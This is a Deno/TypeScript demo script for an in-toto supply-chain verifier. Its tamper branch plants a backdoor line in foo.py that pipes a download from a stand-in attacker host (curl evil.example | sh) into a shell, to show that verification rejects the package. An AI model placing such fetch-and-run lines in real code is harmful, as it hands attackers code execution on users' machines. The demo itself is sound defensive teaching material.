// Copyright 2026 the intoto authors. Apache-2.0 license.
/**
 * The in-toto demo, offline, with intoto: alice (the project owner) defines
 * the supply chain with `intoto layout` commands, bob clones the code and bumps its version, carl packages
 * it, and a user verifies the package. Then carl's copy is tampered with
 * between bob's step and his, and verification explains what went wrong.
 *
 * Run it with `deno task demo`. It works in a temporary folder and prints
 * each command as it runs.
 *
 * @module
 */

import { join } from "node:path";
import { intotoCommand } from "../tests/_helpers.ts";

const useColor = Deno.stdout.isTerminal() && !Deno.env.get("NO_COLOR");
function paint(code: string, text: string): string {
  return useColor ? `\x1b[${code}m${text}\x1b[0m` : text;
}

let quiet = false;

/**
 * Silences the demo's commentary and its commands' output, for tests that
 * run its parts (a failing command still throws with its stderr).
 *
 * @param value True to silence.
 */
export function setQuiet(value: boolean): void {
  quiet = value;
}

function print(text: string): void {
  if (!quiet) console.log(text);
}

function say(text: string): void {
  print(`\n${paint("1", text)}`);
}

/** Runs a command in `cwd`, printing it first, and returns its exit code. */
async function sh(
  cwd: string,
  argv: string[],
  options: { expect?: number } = {},
): Promise<number> {
  const [program, ...args] = argv;
  const shown = argv.map((arg) =>
    /^[\w./=:,@+-]+$/.test(arg) ? arg : `'${arg}'`
  ).join(" ");
  print(paint("36", `${cwd.split("/").pop()}$ ${shown}`));
  const command = program === "intoto" ? [...intotoCommand(), ...args] : argv;
  const stdio = quiet ? "piped" : "inherit";
  const output = await new Deno.Command(command[0]!, {
    args: command.slice(1),
    cwd,
    stdout: stdio,
    stderr: stdio,
    env: { GIT_AUTHOR_NAME: "bob", GIT_AUTHOR_EMAIL: "bob@example.com" },
  }).output();
  const code = output.code;
  const expected = options.expect ?? 0;
  if (code !== expected) {
    const detail = quiet ? `: ${new TextDecoder().decode(output.stderr)}` : "";
    throw new Error(
      `"${shown}" exited with ${code}, expected ${expected}${detail}`,
    );
  }
  return code;
}

/**
 * alice's layout, written with `intoto layout` commands in `alice`: three
 * steps and one inspection, as in the in-toto demo. Writes
 * `root.layout.template`, unsigned.
 *
 * @param alice alice's folder.
 * @param keys The folder with bob.pub and carl.pub, relative to `alice`.
 */
export async function authorLayout(alice: string, keys: string): Promise<void> {
  const file = "root.layout.template";
  const bob = `${keys}/bob.pub`;
  const carl = `${keys}/carl.pub`;
  const layout = (...args: string[]) =>
    sh(alice, ["intoto", "layout", ...args]);
  await layout(
    "init",
    file,
    "--expires",
    "1y",
    "--readme",
    "The intoto demo supply chain",
  );
  await layout("add-key", file, bob, carl);
  await layout(
    "add-step",
    file,
    "--name",
    "clone",
    "--key",
    bob,
    "--product",
    "CREATE demo-project/foo.py",
    "DISALLOW *",
    "--expected-command",
    "git clone --quiet ../upstream/demo-project demo-project",
  );
  await layout(
    "add-step",
    file,
    "--name",
    "update-version",
    "--key",
    bob,
    "--material",
    "MATCH demo-project/* WITH PRODUCTS FROM clone",
    "DISALLOW *",
    "--product",
    "MODIFY demo-project/foo.py",
    "DISALLOW *",
  );
  await layout(
    "add-step",
    file,
    "--name",
    "package",
    "--key",
    carl,
    "--material",
    "MATCH demo-project/* WITH PRODUCTS FROM update-version",
    "DISALLOW *",
    "--product",
    "CREATE demo-project.tar.gz",
    "DISALLOW *",
    "--expected-command",
    "tar --exclude .git -zcf demo-project.tar.gz demo-project",
  );
  await layout(
    "add-inspection",
    file,
    "--name",
    "untar",
    "--run",
    "tar xzf demo-project.tar.gz",
    "--material",
    "MATCH demo-project.tar.gz WITH PRODUCTS FROM package",
    "ALLOW alice.pub",
    "ALLOW root.layout",
    "DISALLOW *",
    "--product",
    "MATCH demo-project/foo.py WITH PRODUCTS FROM update-version",
    "ALLOW demo-project.tar.gz",
    "ALLOW alice.pub",
    "ALLOW root.layout",
    "DISALLOW *",
  );
  await layout("lint", file);
}

async function copyInto(
  from: string,
  names: string[],
  to: string,
): Promise<void> {
  for (const name of names) {
    await Deno.copyFile(join(from, name), join(to, name));
  }
}

async function linksIn(dir: string): Promise<string[]> {
  const names: string[] = [];
  for await (const entry of Deno.readDir(dir)) {
    if (entry.isFile && entry.name.endsWith(".link")) names.push(entry.name);
  }
  return names.sort();
}

/**
 * Performs the supply chain and gathers what the user gets in
 * `final_product` (or `final_product_tampered`): the package, the links,
 * and every file of owner_alice named in `fromAlice` (default the signed
 * layout and alice's public key).
 *
 * @param work The demo's folder, made by {@linkcode prepare}.
 * @param options `tamper` edits foo.py between bob's and carl's steps.
 * @returns The user's folder.
 */
export async function performChain(
  work: string,
  options: { tamper: boolean; fromAlice?: string[] },
): Promise<string> {
  const bob = join(work, "functionary_bob");
  const carl = join(work, "functionary_carl");
  const final = join(
    work,
    options.tamper ? "final_product_tampered" : "final_product",
  );
  for (const dir of [bob, carl, final]) {
    await Deno.remove(dir, { recursive: true }).catch(() => {});
    await Deno.mkdir(dir, { recursive: true });
  }
  await copyInto(join(work, "keys"), ["bob", "bob.pub"], bob);
  await copyInto(join(work, "keys"), ["carl", "carl.pub"], carl);

  say('bob clones the project and records it as the step "clone"');
  await sh(bob, [
    "intoto",
    "run",
    "-n",
    "clone",
    "-k",
    "bob",
    "-p",
    "demo-project",
    "--",
    "git",
    "clone",
    "--quiet",
    "../upstream/demo-project",
    "demo-project",
  ]);

  say('bob bumps the version inside a recorded step "update-version"');
  await sh(bob, [
    "intoto",
    "record",
    "start",
    "-n",
    "update-version",
    "-k",
    "bob",
    "-m",
    "demo-project",
  ]);
  const fooPy = join(bob, "demo-project", "foo.py");
  await Deno.writeTextFile(
    fooPy,
    (await Deno.readTextFile(fooPy)).replace("v0", "v1"),
  );
  print(paint("36", "functionary_bob$ sed -i s/v0/v1/ demo-project/foo.py"));
  await sh(bob, [
    "intoto",
    "record",
    "stop",
    "-n",
    "update-version",
    "-k",
    "bob",
    "-p",
    "demo-project",
  ]);

  say("carl receives bob's work");
  await Deno.mkdir(join(carl, "demo-project"), { recursive: true });
  await Deno.copyFile(fooPy, join(carl, "demo-project", "foo.py"));
  print(
    paint(
      "36",
      "functionary_carl$ cp ../functionary_bob/demo-project/foo.py demo-project/",
    ),
  );
  if (options.tamper) {
    say(
      "... but an attacker slips a backdoor into carl's copy before he packages it",
    );
    await Deno.writeTextFile(
      join(carl, "demo-project", "foo.py"),
      "print('v1')\nimport os; os.system('curl evil.example | sh')\n",
    );
    print(
      paint("31", "functionary_carl$ echo 'backdoor' >> demo-project/foo.py"),
    );
  }

  say('carl packages the project as the step "package"');
  await sh(carl, [
    "intoto",
    "run",
    "-n",
    "package",
    "-k",
    "carl",
    "-m",
    "demo-project",
    "-p",
    "demo-project.tar.gz",
    "--",
    "tar",
    "--exclude",
    ".git",
    "-zcf",
    "demo-project.tar.gz",
    "demo-project",
  ]);

  say(
    "The user gets the package, the signed layout, alice's public key and the links",
  );
  await copyInto(
    join(work, "owner_alice"),
    options.fromAlice ?? ["root.layout", "alice.pub"],
    final,
  );
  await copyInto(bob, await linksIn(bob), final);
  await copyInto(carl, [...await linksIn(carl), "demo-project.tar.gz"], final);
  print(paint("36", `${final.split("/").pop()}$ ls`));
  print(
    (await Array.fromAsync(Deno.readDir(final))).map((entry) => entry.name)
      .sort().join("  "),
  );
  return final;
}

/**
 * Makes the demo's world in `work`: the upstream git repository with
 * foo.py, alice's folder with her RSA key pair, and the functionaries' key
 * pairs in `keys` (bob Ed25519, carl ECDSA P-256).
 *
 * @param work An empty folder.
 * @returns alice's folder and the keys folder.
 */
export async function prepare(
  work: string,
): Promise<{ alice: string; keys: string }> {
  const alice = join(work, "owner_alice");
  const keys = join(work, "keys");
  const upstream = join(work, "upstream", "demo-project");
  for (const dir of [alice, keys, upstream]) {
    await Deno.mkdir(dir, { recursive: true });
  }

  say("The upstream project: a local git repository with foo.py");
  await Deno.writeTextFile(join(upstream, "foo.py"), "print('v0')\n");
  await sh(upstream, ["git", "init", "--quiet", "--initial-branch=main"]);
  await sh(upstream, ["git", "add", "foo.py"]);
  await sh(upstream, [
    "git",
    "-c",
    "user.name=bob",
    "-c",
    "user.email=bob@example.com",
    "commit",
    "--quiet",
    "-m",
    "v0",
  ]);

  say("Everyone makes a key pair: alice RSA, bob Ed25519, carl ECDSA P-256");
  await sh(alice, ["intoto", "keygen", "-t", "rsa", "alice"]);
  await sh(keys, ["intoto", "keygen", "-t", "ed25519", "bob"]);
  await sh(keys, ["intoto", "keygen", "-t", "ecdsa", "carl"]);
  return { alice, keys };
}

/**
 * Prepares the demo's world in `work` and has alice write and sign the
 * layout: `owner_alice/root.layout`, ready for {@linkcode performChain}.
 *
 * @param work An empty folder.
 */
export async function signedLayout(work: string): Promise<void> {
  const { alice } = await prepare(work);
  say(
    "alice writes the layout (steps clone, update-version, package; inspection untar), checks and signs it",
  );
  await authorLayout(alice, "../keys");
  await sh(alice, [
    "intoto",
    "sign",
    "-f",
    "root.layout.template",
    "-k",
    "alice",
    "-o",
    "root.layout",
  ]);
}

async function main(): Promise<void> {
  const work = await Deno.makeTempDir({ prefix: "intoto-demo-" });
  print(paint("1", `intoto demo, in ${work}`));
  try {
    await signedLayout(work);

    const final = await performChain(work, { tamper: false });
    say(
      "The user verifies the final product: every signature, every rule, the untar inspection",
    );
    await sh(final, [
      "intoto",
      "verify",
      "-l",
      "root.layout",
      "-k",
      "alice.pub",
      "--report",
      "../report-passed.html",
    ]);
    print(
      paint(
        "32",
        "Verification passed: the package came from exactly this supply chain.",
      ),
    );

    say(
      "Now the same chain again, with the package built from a tampered foo.py",
    );
    const tampered = await performChain(work, { tamper: true });
    say("The user verifies again");
    await sh(tampered, [
      "intoto",
      "verify",
      "-l",
      "root.layout",
      "-k",
      "alice.pub",
      "--report",
      "../report-failed.html",
    ], { expect: 1 });
    print(
      paint(
        "32",
        "\nVerification failed, as it must: the tampered package is rejected, and the error says why.",
      ),
    );
    print(
      "Each verification wrote an HTML report beside its folder (report-passed.html, report-failed.html); keep them with INTOTO_DEMO_KEEP=1.",
    );
  } finally {
    if (Deno.env.get("INTOTO_DEMO_KEEP")) print(`kept ${work}`);
    else await Deno.remove(work, { recursive: true });
  }
}

if (import.meta.main) {
  try {
    await main();
  } catch (error) {
    console.error(
      `error: demo failed: ${error instanceof Error ? error.message : error}`,
    );
    Deno.exit(1);
  }
}
